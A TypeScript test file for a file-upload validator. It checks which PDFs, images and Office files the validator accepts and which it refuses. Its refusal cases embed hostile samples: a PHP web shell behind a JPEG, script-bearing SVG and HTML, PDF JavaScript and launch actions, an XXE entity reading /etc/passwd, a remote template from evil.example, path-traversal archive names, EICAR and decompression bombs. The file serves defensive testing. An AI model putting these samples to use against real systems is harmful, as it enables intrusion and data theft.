/** Reliability 4.5, U01 to U07, U09, U10 and U15: a table of files and what is said of each. */
import { describe, expect, it } from 'vitest';
import {
  bytesOf,
  concat,
  eicar,
  exifSegment,
  jpegSegment,
  makeDocx,
  makeJpeg,
  makeOdt,
  makePdf,
  makePng,
  makeXlsx,
  makeZip,
  objectStream,
  pdfStream,
  pngChunk,
  xmlPart,
} from '../../test/sample-files.ts';
import { Problem } from '../http/problem.ts';
import { acceptFile } from './accept-file.ts';

const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const typeOfName: Readonly<Record<string, string>> = {
  pdf: 'application/pdf',
  jpg: 'image/jpeg',
  jpeg: 'image/jpeg',
  png: 'image/png',
  docx: docxType,
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  odt: 'application/vnd.oasis.opendocument.text',
};

/** The code of the refusal and what was found; the media type when it is taken. */
async function verdictOn(bytes: Uint8Array<ArrayBuffer>, name: string, declared?: string): Promise<string> {
  const mediaType = declared ?? typeOfName[name.split('.').at(-1) ?? ''] ?? '';
  try {
    return (await acceptFile(bytes, { name, mediaType })).mediaType;
  } catch (error) {
    if (!(error instanceof Problem)) throw error;
    return [error.code.replace('attachment_', ''), error.params['found']].filter(Boolean).join(' ');
  }
}

describe('is taken', () => {
  const taken: readonly (readonly [why: string, bytes: Uint8Array<ArrayBuffer>, name: string])[] = [
    ['a PDF', makePdf(), 'a.pdf'],
    [
      'a PDF whose catalog lies in an object stream',
      concat(
        bytesOf('%PDF-1.7\n'),
        objectStream(5, ['<</Type/Catalog/Pages 3 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']),
        bytesOf('startxref\n0\n%%EOF'),
      ),
      'a.pdf',
    ],
    ['a PDF that says which page to show first', makePdf({ catalog: '/OpenAction[3 0 R/XYZ null null 0]' }), 'a.pdf'],
    [
      'the same by an object of its own',
      makePdf({ catalog: '/OpenAction 4 0 R', objects: ['4 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj'] }),
      'a.pdf',
    ],
    [
      'a PDF with a link',
      makePdf({ page: '/Annots[<</Subtype/Link/A<</S/URI/URI(https://quangninh.gov.vn)>>>>]' }),
      'a.pdf',
    ],
    [
      'a PDF whose text speaks of /JavaScript',
      makePdf({ objects: ['4 0 obj(/JavaScript /JS /Launch \\( )endobj'] }),
      'a.pdf',
    ],
    [
      'a PDF whose picture happens to hold /JS and endobj',
      makePdf({ objects: [pdfStream(4, '/Subtype/Image', bytesOf('\0/JS \x01 endobj /AA >>'))] }),
      'a.pdf',
    ],
    ['a PDF of 20 MB less a byte', makePdf({ size: 20 * 1024 * 1024 - 1 }), 'a.pdf'],
    ['a JPEG', makeJpeg(), 'a.JPG'],
    [
      'a phone’s JPEG with its Exif and a film behind its end',
      makeJpeg({ extra: [exifSegment(6)], after: bytesOf('\0\0\0\x18ftypmp42') }),
      'a.jpeg',
    ],
    ['a JPEG of 50 megapixels', makeJpeg({ width: 8160, height: 6120 }), 'a.jpg'],
    ['a PNG', makePng(), 'a.png'],
    ['a Word file with a link', makeDocx(), 'a.docx'],
    ['an Excel file', makeXlsx(), 'a.xlsx'],
    ['an OpenDocument text', makeOdt(), 'a.odt'],
  ];
  it.each(taken)('%s', async (_, bytes, name) => {
    expect(await verdictOn(bytes, name)).toBe(typeOfName[name.toLowerCase().split('.').at(-1) ?? '']);
  });

  it('whatever a browser declares for what it does not know', async () => {
    for (const declared of ['', 'application/octet-stream'])
      expect(await verdictOn(makePdf(), 'a.pdf', declared)).toBe('application/pdf');
  });
});

const page = '<!doctype html><script>alert(1)</script>';
const action = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
type Row = readonly [
  id: string,
  why: string,
  bytes: Uint8Array<ArrayBuffer>,
  name: string,
  verdict: string,
  declared?: string,
];

const refused: Row[] = [
  [
    'U01',
    'an SVG',
    bytesOf('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'a.svg',
    'type_not_allowed',
  ],
  ['U01', 'an SVG named .png', bytesOf('<svg><foreignObject/></svg>'), 'a.png', 'type_not_allowed'],
  ['U02', 'a page named .pdf', bytesOf(page), 'a.pdf', 'type_not_allowed'],
  ['U02', 'a page before the mark of a PDF', concat(bytesOf(page.padEnd(600)), makePdf()), 'a.pdf', 'type_not_allowed'],
  [
    'U02',
    'a page in the comment behind the mark',
    concat(bytesOf(`%PDF-1.7\n%${page}\n`), makePdf()),
    'a.pdf',
    'active <!doctype html',
  ],
  ['U02', 'a page behind the end of a PDF', concat(makePdf(), bytesOf(page)), 'a.pdf', 'active <!doctype html'],
  [
    'U03',
    'the header of a JPEG and a page',
    concat(bytesOf('\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0'), bytesOf(page)),
    'a.jpg',
    'damaged',
  ],
  [
    'U03',
    'a JPEG with a page in its comment',
    makeJpeg({ extra: [jpegSegment(0xfe, bytesOf(page))] }),
    'a.jpg',
    'active <!doctype html',
  ],
  [
    'U03',
    'a JPEG with a program behind its end',
    makeJpeg({ after: bytesOf('<?php system($_GET[0]); ?>') }),
    'a.jpg',
    'active <?php',
  ],
  [
    'U03',
    'a PNG with PHP in a text',
    makePng({ extra: [pngChunk('tEXt', bytesOf('Comment\0<?php evil(); ?>'))] }),
    'a.png',
    'active <?php',
  ],
  ['U03', 'a GIF that is a script', bytesOf('GIF89a/*\0*/=1;alert(1)'), 'a.gif', 'type_not_allowed'],
  ['U04', 'a PDF with /JS', makePdf({ objects: [`4 0 obj${action}endobj`] }), 'a.pdf', 'active JavaScript'],
  [
    'U04',
    'a PDF with /JS in a hidden name',
    makePdf({ objects: ['4 0 obj<</#4a#53(1)>>endobj'] }),
    'a.pdf',
    'active JS',
  ],
  [
    'U04',
    'a PDF with /JavaScript as a tree of names',
    makePdf({ catalog: '/Names<</JavaScript 9 0 R>>' }),
    'a.pdf',
    'active JavaScript',
  ],
  [
    'U04',
    'a PDF that launches',
    makePdf({ page: '/Annots[<</A<</S/Launch/F(calc.exe)>>>>]' }),
    'a.pdf',
    'active Launch',
  ],
  [
    'U04',
    'a PDF with additional actions',
    makePdf({ page: '/AA<</O<</S/URI/URI(http://x)>>>>' }),
    'a.pdf',
    'active AA',
  ],
  [
    'U04',
    'a PDF that acts when opened',
    makePdf({ catalog: '/OpenAction<</S/URI/URI(http://x)>>' }),
    'a.pdf',
    'active OpenAction',
  ],
  [
    'U04',
    'the same by an object of its own',
    makePdf({ catalog: '/OpenAction 4 0 R', objects: ['4 0 obj<</S/URI/URI(http://x)>>endobj'] }),
    'a.pdf',
    'active OpenAction',
  ],
  [
    'U04',
    'the same by an object that is written twice',
    makePdf({
      catalog: '/OpenAction 4 0 R',
      objects: ['4 0 obj<</S/URI/URI(http://x)>>endobj', '4 0 obj[3 0 R/Fit]endobj'],
    }),
    'a.pdf',
    'active OpenAction',
  ],
  ['U04', 'a PDF with rich media', makePdf({ page: '/Annots[<</Subtype/RichMedia>>]' }), 'a.pdf', 'active RichMedia'],
  ['U04', 'a PDF with an XFA form', makePdf({ catalog: '/AcroForm<</XFA 9 0 R>>' }), 'a.pdf', 'active XFA'],
  [
    'U04',
    'a PDF that carries a file',
    makePdf({ objects: [pdfStream(4, '/Type/EmbeddedFile', bytesOf('MZ'))] }),
    'a.pdf',
    'active EmbeddedFile',
  ],
  [
    'U04',
    'a PDF that sends its form',
    makePdf({ page: '/Annots[<</A<</S/SubmitForm/F(http://x)>>>>]' }),
    'a.pdf',
    'active SubmitForm',
  ],
  [
    'U04',
    'a script in an object stream',
    makePdf({ objects: [objectStream(4, ['<</Type/Font>>', action])] }),
    'a.pdf',
    'active JavaScript',
  ],
  [
    'U04',
    'an object that only a forged table would find, in a stream',
    makePdf({ objects: [pdfStream(4, '/Subtype/Image', bytesOf(`\0\x01 7 0 obj${action}endobj`))] }),
    'a.pdf',
    'active JavaScript',
  ],
  [
    'U04',
    'the same in a comment',
    makePdf({ objects: [`%\0\x01 7 0 obj${action}endobj`] }),
    'a.pdf',
    'active JavaScript',
  ],
  [
    'U04',
    'the same in a string, a comment between its numbers',
    makePdf({ objects: [`(x 7 %\n0 obj${action}endobj)`] }),
    'a.pdf',
    'active JavaScript',
  ],
  [
    'U04',
    'an object stream behind a filter that cannot be read',
    makePdf({ objects: [pdfStream(4, '/Type/ObjStm/N 1/First 4/Filter/LZWDecode', bytesOf('xx'))] }),
    'a.pdf',
    'damaged',
  ],
  [
    'U04',
    'an object stream that does not unpack',
    makePdf({ objects: [pdfStream(4, '/Type/ObjStm/N 1/First 4/Filter/FlateDecode', bytesOf('xx'))] }),
    'a.pdf',
    'damaged',
  ],
  ['U05', 'a PDF with a password', makePdf({ trailer: '/Encrypt 9 0 R' }), 'a.pdf', 'encrypted'],
  [
    'U05',
    'the same, told by a stream of references',
    makePdf({ objects: [pdfStream(4, '/Type/XRef/Encrypt 9 0 R', bytesOf(''))] }),
    'a.pdf',
    'encrypted',
  ],
  [
    'U05',
    'a PDF of 10,000 pages',
    makePdf({ objects: ['4 0 obj<</Type/Pages/Kids[]/Count 10000>>endobj'] }),
    'a.pdf',
    'too_complex 10000 p.',
  ],
  [
    'U05',
    'a page of 200 inches a million times',
    makePdf({ page: '/UserUnit 1000000' }),
    'a.pdf',
    'too_complex UserUnit 1000000',
  ],
  [
    'U05',
    'a page of a million inches',
    makePdf({ page: '/MediaBox[0 0 72000000 1]' }),
    'a.pdf',
    'too_complex 72000000 pt',
  ],
  [
    'U05',
    'a gigabyte that is only claimed',
    makePdf({ objects: ['4 0 obj<</Length 1000000000>>stream\nx\nendstream endobj'] }),
    'a.pdf',
    'damaged',
  ],
  ['U05', 'a stream without an end', makePdf({ objects: ['4 0 obj<</Length 5 0 R>>stream\nx'] }), 'a.pdf', 'damaged'],
  ['U05', 'no catalog', bytesOf('%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF'), 'a.pdf', 'damaged'],
  ['U05', 'half a PDF', makePdf({ size: 5000 }).subarray(0, 3000), 'a.pdf', 'damaged'],
  [
    'U07',
    'a PNG of 30,000 × 30,000',
    makePng({ width: 30_000, height: 30_000 }),
    'a.png',
    'too_complex 30000 × 30000 px',
  ],
  [
    'U07',
    'a JPEG that claims 4 gigapixels',
    makeJpeg({ width: 65_500, height: 65_500 }),
    'a.jpg',
    'too_complex 65500 × 65500 px',
  ],
  [
    'U07',
    'a PNG of 10,000 frames',
    makePng({ extra: [pngChunk('acTL', Uint8Array.of(0, 0, 0x27, 0x10, 0, 0, 0, 0))] }),
    'a.png',
    'too_complex 10000 ×',
  ],
  ['U07', 'a TIFF', bytesOf('II*\0\x08\0\0\0'), 'a.tiff', 'type_not_allowed'],
  ['U07', 'a HEIC', bytesOf('\0\0\0\x18ftypheic'), 'a.heic', 'type_not_allowed'],
  ['U07', 'half a JPEG', makeJpeg().subarray(0, -2), 'a.jpg', 'damaged'],
  ['U07', 'half a PNG', makePng().subarray(0, -4), 'a.png', 'damaged'],
  ['U09', 'the stand-in for a virus', bytesOf(eicar), 'a.pdf', 'harmful'],
  ['U09', 'the same in a PDF', makePdf({ objects: [pdfStream(4, '', bytesOf(eicar))] }), 'a.pdf', 'harmful'],
  ['U09', 'the same packed', makeDocx({ name: 'word/media/image1.png', data: bytesOf(eicar) }), 'a.docx', 'harmful'],
  ['U10', 'nothing', new Uint8Array(), 'a.pdf', 'type_not_allowed'],
  ['U10', 'one byte', Uint8Array.of(0x25), 'a.pdf', 'type_not_allowed'],
  ['U10', '20 MB and a byte', makePdf({ size: 20 * 1024 * 1024 + 1 }), 'a.pdf', 'too_large'],
  [
    'U15',
    'declared as a PNG, named .pdf, a JPEG by content',
    makeJpeg(),
    'a.pdf',
    'type_disagrees image/jpeg',
    'image/png',
  ],
  ['U15', 'a JPEG named .png', makeJpeg(), 'a.png', 'type_disagrees image/jpeg', 'image/jpeg'],
  ['U15', 'a PDF declared as a picture', makePdf(), 'a.pdf', 'type_disagrees application/pdf', 'image/png'],
];

const office: Row[] = [
  [
    'U06',
    'a nested archive',
    makeDocx({ name: 'word/media/image1.png', data: makeDocx() }),
    'a.docx',
    'active word/media/image1.png',
  ],
  ['U06', 'an archive as such', makeZip([{ name: 'a.txt', data: bytesOf('a') }]), 'a.zip', 'type_not_allowed'],
  [
    'U06',
    '65,535 entries',
    makeDocx(...Array.from({ length: 65_532 }, (_, at) => ({ name: String(at), data: new Uint8Array() }))),
    'a.docx',
    'too_complex > 2000 ×',
  ],
  ['U06', 'entries that overlap', overlapping(), 'a.docx', 'damaged'],
  [
    'U06',
    'a size that only ZIP64 could hold',
    makeDocx({ ...xmlPart('word/x.xml', ''), claims: { size: 0xffffffff } }),
    'a.docx',
    'damaged',
  ],
  [
    'U06',
    'another name in front of the entry than in the list',
    makeDocx({ ...xmlPart('word/x.xml', ''), claims: { localName: 'word/y.xml' } }),
    'a.docx',
    'damaged',
  ],
  [
    'U06',
    'a link',
    makeDocx({ ...xmlPart('word/x.xml', '/etc/passwd'), claims: { mode: 0o120777 } }),
    'a.docx',
    'damaged',
  ],
  ['U06', 'a name that climbs', makeDocx(xmlPart('../../evil.xml', '')), 'a.docx', 'damaged'],
  ['U06', 'a name from the root', makeDocx(xmlPart('/etc/x.xml', '')), 'a.docx', 'damaged'],
  ['U06', 'a password', makeDocx({ ...xmlPart('word/x.xml', ''), claims: { flags: 1 } }), 'a.docx', 'encrypted'],
  [
    'U06',
    'a macro',
    makeDocx({ name: 'word/vbaProject.bin', data: bytesOf('x') }),
    'a.docx',
    'active word/vbaProject.bin',
  ],
  [
    'U06',
    'a macro of another name',
    makeXlsx({ name: 'xl/macrosheets/sheet1.xml', data: bytesOf('x') }),
    'a.xlsx',
    'active xl/macrosheets/sheet1.xml',
  ],
  [
    'U06',
    'a file in the file',
    makeDocx({ name: 'word/embeddings/oleObject1.bin', data: bytesOf('x') }),
    'a.docx',
    'active word/embeddings/oleObject1.bin',
  ],
  [
    'U06',
    'an entity from outside',
    makeDocx(xmlPart('word/x.xml', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')),
    'a.docx',
    'active <!DOCTYPE',
  ],
  [
    'U06',
    'a template from outside',
    makeDocx(
      xmlPart(
        'word/_rels/settings.xml.rels',
        '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>',
      ),
    ),
    'a.docx',
    'active attachedTemplate',
  ],
  [
    'U06',
    'a macro in an OpenDocument text',
    makeOdt({ name: 'Basic/Standard/Module1.xml', data: bytesOf('x') }),
    'a.odt',
    'active Basic/Standard/Module1.xml',
  ],
  [
    'U06',
    'bytes that do not unpack',
    makeDocx({ ...xmlPart('word/x.xml', 'abcdef'), claims: { method: 0 } }),
    'a.docx',
    'damaged',
  ],
  ['U15', 'a Word file named .xlsx', makeDocx(), 'a.xlsx', `type_disagrees ${docxType}`, ''],
];

/** Two entries whose packed bytes are the same ones. */
function overlapping(): Uint8Array<ArrayBuffer> {
  const whole = makeDocx(xmlPart('word/x.xml', 'x'), xmlPart('word/y.xml', 'y'));
  const view = new DataView(whole.buffer);
  const directory = view.getUint32(whole.byteLength - 6, true);
  const at = Buffer.from(whole).indexOf('word/y.xml', directory) - 46;
  const other = Buffer.from(whole).indexOf('word/x.xml', directory) - 46;
  view.setUint32(at + 42, view.getUint32(other + 42, true), true);
  whole.set(bytesOf('word/x.xml'), at + 46);
  whole.set(bytesOf('word/z.xml'), other + 46);
  return whole;
}

describe('is refused', () => {
  for (const [id, why, bytes, name, verdict, declared] of [...refused, ...office])
    it(`${id}: ${why}`, async () => {
      expect(await verdictOn(bytes, name, declared)).toBe(verdict);
    });
});

describe('ends soon', () => {
  /** Milliseconds and megabytes that a look at a file took. Generous: a busy machine is no failure. */
  async function costOf(
    bytes: Uint8Array<ArrayBuffer>,
    name: string,
  ): Promise<{ verdict: string; ms: number; mb: number }> {
    const [before, start] = [process.memoryUsage().rss, performance.now()];
    let most = before;
    const watch = setInterval(() => (most = Math.max(most, process.memoryUsage().rss)), 5);
    const verdict = await verdictOn(bytes, name);
    clearInterval(watch);
    return { verdict, ms: performance.now() - start, mb: (Math.max(most, process.memoryUsage().rss) - before) / 1e6 };
  }

  const gigabyte = 1024 * 1024 * 1024;
  it('U06: a gigabyte in a megabyte of XML', async () => {
    const parts = Array.from({ length: 16 }, (_, at) => ({
      name: `word/${at}.xml`,
      data: new Uint8Array(gigabyte / 16),
    }));
    const { verdict, ms, mb } = await costOf(makeDocx(...parts), 'a.docx');
    expect(verdict).toBe('too_complex > 100 MB');
    expect(ms).toBeLessThan(8000);
    expect(mb).toBeLessThan(250);
  });

  it('U05: a gigabyte in an object stream', async () => {
    const spaces = [' '.repeat(gigabyte / 8)];
    const { verdict, ms, mb } = await costOf(
      makePdf({ objects: [objectStream(4, spaces), objectStream(5, spaces)] }),
      'a.pdf',
    );
    expect(verdict).toBe('too_complex > 64 MB');
    expect(ms).toBeLessThan(8000);
    expect(mb).toBeLessThan(300);
  });

  const long: readonly (readonly [why: string, bytes: Uint8Array<ArrayBuffer>, verdict: string])[] = [
    ['20 MB of white space', makePdf({ objects: [' '.repeat(19_000_000)] }), 'application/pdf'],
    ['20 MB of words', makePdf({ objects: ['1 '.repeat(9_500_000)] }), 'too_complex > 64 MB'],
    ['20 MB of open brackets', makePdf({ objects: ['['.repeat(19_000_000)] }), 'too_complex > 64 MB'],
    ['20 MB of open strings', makePdf({ objects: ['('.repeat(19_000_000)] }), 'damaged'],
    ['20 MB of comments', makePdf({ objects: ['%\n'.repeat(9_500_000)] }), 'application/pdf'],
    ['20 MB of relations', makeDocx(xmlPart('a.rels', '<Relationship '.repeat(1_400_000))), docxType],
  ];
  it.each(long)('%s', async (_, bytes, verdict) => {
    const name = verdict === docxType ? 'a.docx' : 'a.pdf';
    const cost = await costOf(bytes, name);
    expect(cost.verdict).toBe(verdict);
    expect(cost.ms).toBeLessThan(15_000);
  });

  it('U05: sections that lead in a circle', async () => {
    const start =
      makePdf().byteLength -
      'xref\n0 1\n0000000000 65535 f \ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n0000000000\n%%EOF\n'.length;
    expect(await verdictOn(makePdf({ trailer: `/Prev ${start}` }), 'a.pdf')).toBe('damaged');
  });
});
